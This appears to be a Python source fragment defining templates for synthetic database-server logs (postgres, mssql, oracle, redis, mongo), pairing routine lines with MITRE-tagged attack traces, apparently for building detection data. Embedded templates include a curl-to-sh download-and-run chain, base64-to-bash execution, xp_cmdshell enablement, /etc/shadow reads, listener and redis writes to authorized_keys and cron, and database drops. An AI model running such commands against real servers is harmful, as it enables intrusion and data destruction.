# T1059 postgres server shows what strangers ran
ERROR ;; «38000 ;; program "«echo «b64:40»¦base64 -d¦bash|curl -s http://«peer»/«letters:2».sh¦sh|id»" failed|58P01 ;; could not load library "/tmp/«letters:4:8».so": /tmp/«letters:4:8».so: undefined symbol: Pg_magic_func|42883 ;; function sys_eval(unknown) does not exist|42501 ;; could not open file "/etc/«shadow|sudoers»" for reading: Permission denied|42501 ;; «absolute path not allowed|must be superuser to COPY to or from an external program|permission denied for function pg_read_file»»
LOG ;; 00000 ;; «parameter "«log_statement|log_connections|log_min_messages»" changed to "«none|off|panic»"|parameter "«archive_command|ssl_passphrase_command|session_preload_libraries|local_preload_libraries»" changed to "«curl ‹bad-url›¦sh|/tmp/‹junk›.so»"|replication connection authorized: user=‹junk› host=««pub»|«pub»|«ip2»»|sh: 1: «xmrig|kdevtmpfsi|‹junk›»: not found|server process (PID «num:1000:9999») was terminated by signal 11: Segmentation fault, failed process was running: SELECT sys_exec('id')»
@@ mssql
# mssql server by day
Logon ;; - ;; Login succeeded for user '««netbios»\«person»|«svc»|«word»_app»'. Connection made using «Windows|SQL Server» authentication. [CLIENT: ««ip2»|<local machine>|<named pipe>»]
Logon ;; - ;; Login failed for user '««netbios»\«person»|«svc»|«word»_app»'. «Reason: Password did not match that for the login provided.|Reason: Failed to open the explicitly specified database '«word»_old'.|Reason: The account's password is expired.» [CLIENT: ««ip2»|<local machine>|<named pipe>»]
spid«num:9:90»s ;; - ;; «Starting up database '«word»'.|Recovery is complete. This is an informational message only.|SQL Server is now ready for client connections.|The client was unable to reuse a session with SPID «num:51:200», which had been reset for connection pooling.|Configuration option 'max server memory (MB)' changed from «num:1000:9000» to «num:9000:90000». Run the RECONFIGURE statement to install.|Configuration option 'show advanced options' changed from 0 to 1. Run the RECONFIGURE statement to install.|DBCC CHECKDB («word») executed by «netbios»\«svc» found 0 errors and repaired 0 errors.»
Backup ;; - ;; «Database backed up. Database: «word», creation date(time): «date:%Y/%m/%d»(10:00:00), pages dumped: «num:1000:99999»|Log was backed up. Database: «word», first LSN: «num:100:999»:«num:100:999»:1|BACKUP failed to complete the command BACKUP DATABASE «word». Check the backup application log for detailed messages.»
Logon ;; - ;; Login failed for user '«netbios»\«workstation»$'. Reason: Could not find a login matching the name provided. [CLIENT: ««ip2»|«ip2»|«ip2»|«peer»»]
spid«num:51:200» ;; - ;; «Setting database option RECOVERY to FULL for database '«word»'.|Using 'xpstar.dll' version '2019.150.«num:2000:4400»' to execute extended stored procedure 'xp_instance_regread'.|Error: 1205, Severity: 13, State: 51. Transaction was deadlocked on lock resources.|Attempting to cycle error log. This is an informational message only; no user action is required.|Using 'xplog70.dll' version '2019.150.«num:2000:4400»' to execute extended stored procedure 'xp_msver'.»
# T1110 mssql server guessed
Logon ;; - ;; Login failed for user '«sa|sa|admin|root|@guessed@|hbv7|kisadmin|su|vice»'. Reason: «Password did not match that for the login provided.|Could not find a login matching the name provided.|An error occurred while evaluating the password.» [CLIENT: ««pub»|«pub»|«ip2»»]
Logon ;; - ;; Login failed for user '«sa|@guessed@»'. Reason: «An attempt to login using SQL authentication failed. Server is configured for Integrated authentication only.|The account is disabled.|Login is locked out.» [CLIENT: ««pub»|«pub»|«ip2»»]
Logon ;; - ;; «The login packet used to open the connection is structurally invalid; the connection has been closed. Please contact the vendor of the client library. [CLIENT: ««pub»|«pub»|«ip2»»]|Length specified in network packet payload did not match number of bytes read; the connection has been closed. [CLIENT: ««pub»|«pub»|«ip2»»]|Login succeeded for user 'sa'. Connection made using SQL Server authentication. [CLIENT: ««pub»|«pub»|«ip2»»]»
# T1059.003 mssql server opened for commands
spid«num:51:200» ;; - ;; Configuration option '«xp_cmdshell|Ole Automation Procedures|clr enabled|Ad Hoc Distributed Queries|external scripts enabled|scan for startup procs|clr strict security»' changed from «0 to 1|1 to 0|0 to 1». Run the RECONFIGURE statement to install.
spid«num:51:200» ;; - ;; «Using 'xplog70.dll' version '2019.150.«num:2000:4400»' to execute extended stored procedure 'xp_cmdshell'. This is an informational message only; no user action is required.|Using 'odsole70.dll' version '2019.150.«num:2000:4400»' to execute extended stored procedure 'sp_OACreate'.|Using 'xpstar.dll' version '2019.150.«num:2000:4400»' to execute extended stored procedure 'xp_dirtree' '\\«peer»\«letters:2»'.|Unsafe assembly '‹junk›, version=0.0.0.0, culture=neutral, publickeytoken=null, processorarchitecture=msil' loaded into appdomain «num:2:40» (msdb.dbo[runtime].«num:2:40»).|Setting database option TRUSTWORTHY to ON for database '«msdb|master|«word»»'.|AppDomain «num:2:40» (master.dbo[runtime].«num:2:40») created.|Audit: Server Audit: «num:65536:66000», State changed from: STARTED to: TARGET_DISABLED by ‹junk›|Error: 15281, Severity: 16, State: 1. SQL Server blocked access to procedure 'sys.xp_cmdshell' of component 'xp_cmdshell'.»
@@ oracle
# oracle listener by day
(CONNECT_DATA=(SERVICE_NAME=«word»)(CID=(PROGRAM=«JDBC Thin Client|sqlplus|oracle|SQL Developer|w3wp.exe|rman|python»)(HOST=«server»)(USER=«svc»))) ;; (ADDRESS=(PROTOCOL=tcp)(HOST=««ip2»|«ip2»|«ip2»|«peer»»)(PORT=«num:32768:60999»)) ;; establish * «word» * «0|0|0|0|12514|12518»
(CONNECT_DATA=(SID=«word»)(CID=(PROGRAM=C:\oracle\client\bin\«sqlplus|toad|excel|msaccess».exe)(HOST=«workstation»)(USER=«person»))) ;; (ADDRESS=(PROTOCOL=tcp)(HOST=««ip2»|«ip2»|«ip2»|«peer»»)(PORT=«num:32768:60999»)) ;; establish * «word» * «0|0|12505»
(CONNECT_DATA=(CID=(PROGRAM=)(HOST=«server»)(USER=oracle))(COMMAND=«status|services|reload|version»)(ARGUMENTS=64)(SERVICE=LISTENER)(VERSION=318767104)) ;; (ADDRESS=(PROTOCOL=tcp)(HOST=««ip2»|«ip2»|«ip2»|«peer»»)(PORT=«num:32768:60999»)) ;; «status|services|reload|version» * 0
service_update ;; «word» ;; 0
# T1210 oracle listener misused by strangers
(CONNECT_DATA=(CID=(PROGRAM=)(HOST=«__jdbc__|‹junk›|»)(USER=«‹junk›|root|»))(COMMAND=«stop|save_config|version|status|services|log_directory|log_file»)(ARGUMENTS=«4|64»)(SERVICE=LISTENER)(VERSION=135294976)) ;; (ADDRESS=(PROTOCOL=tcp)(HOST=««pub»|«pub»|«ip2»»)(PORT=«num:32768:60999»)) ;; «stop|save_config|version|services|log_file|status» * «0|1189|1190|12508»
(CONNECT_DATA=(SID=«ORCL|XE|PROD|TEST|PLSExtProc|DB«num:1:99»|SID«num:0:9»|ASDB»)(CID=(PROGRAM=)(HOST=__jdbc__)(USER=))) ;; (ADDRESS=(PROTOCOL=tcp)(HOST=««pub»|«pub»|«ip2»»)(PORT=«num:32768:60999»)) ;; establish * «ORCL|XE|PROD|TEST|DB«num:1:99»» * «12505|12505|12514|0»
(CONNECT_DATA=(COMMAND=«service_register_NSGR|set_log_file|log_file|debug|trc_level»)(ARGUMENTS=4)(SERVICE=LISTENER)«(VALUE=«/home/oracle/.rhosts|/var/www/html/‹junk›.jsp|/root/.ssh/authorized_keys»)|»(VERSION=1)) ;; (ADDRESS=(PROTOCOL=tcp)(HOST=««pub»|«pub»|«ip2»»)(PORT=«num:32768:60999»)) ;; «service_register_NSGR|set_log_file|log_file» * «0|1194|12508»
(CONNECT_DATA=(SERVICE_NAME=«word»)(CID=(PROGRAM=«sqlplus|python3|nmap|‹junk›|odat-libc2.12-x86_64»)(HOST=«kali|‹junk›|localhost»)(USER=«root|‹junk›|kali»))) ;; (ADDRESS=(PROTOCOL=tcp)(HOST=««pub»|«pub»|«ip2»»)(PORT=«num:32768:60999»)) ;; establish * «word» * «0|0|12514»
@@ redis
# redis server by day
* ;; - ;; «Background saving started by pid «num:300:60000»|DB saved on disk|«num:1:999» changes in «60|300|900» seconds. Saving...|Background saving terminated with success|Ready to accept connections|MASTER <-> REPLICA sync: Finished with success|Replica «ip2»:6379 asks for synchronization|Connecting to MASTER «ip2»:6379|Synchronization with replica «ip2»:6379 succeeded|Background append only file rewriting started by pid «num:300:60000»|User requested shutdown...|Module 'bf' loaded from /usr/lib/redis/modules/redisbloom.so»
W ;; - ;; «WARNING overcommit_memory is set to 0! Background save may fail under low memory condition.|Connection with replica «ip2»:6379 lost.|Configuration loaded|Client id=«num:1:9999» addr=««ip2»|«ip2»|«ip2»|«peer»»:«num:32768:60999» scheduled to be closed ASAP for overcoming of output buffer limits.|+switch-master mymaster «ip2» 6379 «ip2» 6379|+sdown slave «ip2»:6379|Error condition on socket for SYNC: Connection refused|MISCONF Redis is configured to save RDB snapshots, but is currently unable to persist on disk.|Server initialized»
# T1505 redis server turned by strangers
* ;; - ;; «REPLICAOF «pub»:«port» enabled (user request from 'id=«num:1:9999» addr=««pub»|«pub»|«ip2»»:«num:32768:60999» fd=8 name= cmd=slaveof')|Module 'system' loaded from «./exp.so|/tmp/‹junk›.so|/var/lib/redis/red2.so»|Connecting to MASTER «pub»:«port»|MASTER <-> REPLICA sync: receiving «num:40000:60000» bytes from MASTER (ex: FULLRESYNC «hex:40» 1) «pub»|Before turning into a replica, using my own master parameters to synthesize a cached master: I may be able to synchronize with «pub»»
W ;; - ;; «Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis. Connection from «pub»:«num:32768:60999» aborted.|Failed opening the RDB file «root|crontab|authorized_keys|zzh» (in server root dir «/var/spool/cron|/etc/cron.d|/root/.ssh|/etc») for saving: «Permission denied|Read-only file system»|Module «/tmp/‹junk›.so|./exp.so» failed to load: «It does not have execute permissions.|cannot open shared object file: No such file or directory»|Wrong signature trying to load DB from file «exp.so|‹junk›»|Redis «num:4:7».«num:0:2».«num:0:9» crashed by signal: 11 while running lua «letters:6»|Failed trying to load the MASTER synchronization DB from disk, «pub»»
@@ mongo
# mongo server by day
NETWORK ;; 22943 ;; {"msg":"Connection accepted","attr":{"remote":"««ip2»|«ip2»|«ip2»|«peer»»:«num:32768:60999»","connectionId":«num:1:99999»,"connectionCount":«num:1:900»}}
NETWORK ;; 51800 ;; {"msg":"client metadata","attr":{"remote":"««ip2»|«ip2»|«ip2»|«peer»»:«num:32768:60999»","client":"conn«num:1:9999»","doc":{"driver":{"name":"«nodejs|mongo-java-driver¦sync|PyMongo|mongo-csharp-driver|mongo-go-driver»","version":"4.«num:1:11».0"},"os":{"type":"Linux"}}}}
ACCESS ;; «20250|5286306» ;; {"msg":"«Authentication succeeded|Successfully authenticated»","attr":{"mechanism":"SCRAM-SHA-256","speculative":true,"principalName":"««svc»|«word»_app»","authenticationDatabase":"admin","remote":"««ip2»|«ip2»|«ip2»|«peer»»:«num:32768:60999»"}}
ACCESS ;; 20249 ;; {"msg":"Authentication failed","attr":{"mechanism":"SCRAM-SHA-256","principalName":"««svc»|«person»|«word»_app»","authenticationDatabase":"«admin|«word»»","client":"««ip2»|«ip2»|«ip2»|«peer»»:«num:32768:60999»","result":"«AuthenticationFailed: SCRAM authentication failed, storedKey mismatch|UserNotFound: Could not find user \"«person»\" for db \"«word»\"»"}}
«STORAGE|REPL|INDEX|CONTROL» ;; «22430|21394|20438|23138|21358» ;; {"msg":"«WiredTiger message|This node is in the config|Index build: done building|Replica set state transition|Election succeeded, assuming primary role|Checkpoint|Slow oplog entry application»","attr":{"durationMillis":«num:1:9000»,"state":"«PRIMARY|SECONDARY|STARTUP2»"}}
# T1110 mongo server guessed from outside
ACCESS ;; 20249 ;; {"msg":"Authentication failed","attr":{"mechanism":"«SCRAM-SHA-256|SCRAM-SHA-1|MONGODB-CR»","principalName":"«admin|root|mongo|siteUserAdmin|test|@guessed@»","authenticationDatabase":"admin","client":"««pub»|«pub»|«ip2»»:«num:32768:60999»","result":"«UserNotFound: Could not find user \"admin\" for db \"admin\"|AuthenticationFailed: SCRAM authentication failed, storedKey mismatch|MechanismUnavailable: Received authentication for mechanism MONGODB-CR which is not enabled»"}}
ACCESS ;; 20436 ;; {"msg":"Checking authorization failed","attr":{"error":{"code":13,"codeName":"Unauthorized","errmsg":"«command listDatabases requires authentication|not authorized on admin to execute command { listDatabases: 1 }|command find requires authentication»"},"client":"««pub»|«pub»|«ip2»»:«num:32768:60999»"}}
NETWORK ;; 51800 ;; {"msg":"client metadata","attr":{"remote":"««pub»|«pub»|«ip2»»:«num:32768:60999»","client":"conn«num:1:9999»","doc":{"driver":{"name":"«PyMongo|mgo|MongoDB Internal Client|nmap|zgrab|mongo-tools»","version":"«num:2:3».«num:0:9»"},"application":{"name":"«MongoDB Shell|mongodump|‹junk›»"},"os":{"type":"«Linux|Windows»","name":"«Kali|‹junk›|»"}}}}
# T1562 mongo server opened and stopped
CONTROL ;; «22120|22178|22184|22140» ;; {"msg":"«Access control is not enabled for the database. Read and write access to data and configuration is unrestricted|This server is bound to 0.0.0.0 without authentication|Server started with --noauth|Server started with --transitionToAuth»","attr":{"by":"‹junk›","host":"0.0.0.0"},"tags":["startupWarnings"]}
«COMMAND|CONTROL» ;; «20695|23378|20337» ;; {"msg":"«dropDatabase - starting|dropDatabase - finished|Signal was received|CMD: drop»","attr":{"db":"«prod|shop|customers|«word»»","namespace":"«prod|shop».‹rare›","client":"««pub»|«pub»|«ip2»»:«num:32768:60999»","appName":"«PyMongo|mongosh 1.«num:1:10».0|»"}}
"""


def _servers() -> dict[str, tuple[Scenario, ...]]:
    text = phrased(written(_SERVER_TEXT, _FRAGMENTS))
    return {part.partition("\n")[0].strip(): table(part.partition("\n")[2]) for part in text.split("@@ ") if part.strip()}


SERVERS: dict[str, tuple[Scenario, ...]] = _servers()
